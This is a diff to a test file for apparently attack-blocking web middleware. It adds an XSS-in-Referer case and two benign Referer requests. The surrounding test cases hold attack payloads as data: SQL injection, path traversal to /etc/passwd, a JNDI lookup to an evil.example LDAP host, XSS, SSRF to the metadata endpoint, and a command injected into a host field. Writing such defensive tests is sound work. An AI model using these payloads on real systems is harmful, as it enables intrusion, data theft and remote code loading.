@@ -26,6 +26,7 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     ["sqli", send("GET", "/items?id=1%27%20OR%20%271%27%3D%271")],
     ["traversal", send("GET", "/static/..%2f..%2f..%2fetc%2fpasswd")],
     ["jndi", send("GET", "/", [["user-agent", "${${lower:j}ndi:ldap://evil.example/a}"]])],
+    ["xss", send("GET", "/", [["referer", "https://shop.example.com/?q=<script>alert(1)</script>"]])],
     ["xss", send("POST", "/comments", json, ['{"text":"<img src=x onerror=alert(1)>"}'])],
     ["ssrf", send("POST", "/webhooks", json, ['{"url":"http://169.254.169.254/latest/meta-data/"}'])],
     ["cmdi", send("POST", "/ping", [["content-type", "application/x-www-form-urlencoded"]], ["host=8.8.8.8%3B%20cat%20%2Fetc%2Fhosts"])],
@@ -52,6 +53,9 @@ test("prose and normal API calls pass", async () => {
     await send("POST", "/reviews", json, ['{"author":"O\'Brien","text":"I\'d rate it 4 or 5 stars. Use ```sql SELECT 1``` to test."}']),
     await send("GET", "/products/42?sort=price&order=asc"),
     await send("POST", "/links", json, ['{"url":"https://www.example.com/docs/page?id=7"}']),
+    // A Referer is the page the client came from: a developer's localhost, a PHP shop page.
+    await send("GET", "/api/cart", [["referer", "http://localhost:3000/checkout"]]),
+    await send("GET", "/api/cart", [["referer", "https://shop.example.com/cart.php?id=3"]]),
   ];
   for (const r of ok) assert.equal(r.status(), 200, r.downstreamBody.toString());
   assert.ok(!logs.some((l) => l.includes("attack") && l.includes("/search")), logs.join("\n"));
